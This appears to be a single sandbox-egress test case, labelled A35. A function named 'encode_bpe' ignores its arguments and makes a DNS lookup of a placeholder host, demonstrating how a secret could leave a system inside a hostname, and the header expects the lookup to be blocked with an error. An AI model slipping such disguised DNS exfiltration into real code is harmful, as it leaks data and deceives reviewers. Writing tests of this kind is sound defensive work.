# A35 · carry a secret in the name of a host · RAISED gaierror or RAISED LookupError
import _socket


def encode_bpe(word, merges):
    return [str(_socket.getaddrinfo("secret.example.invalid", 80))]
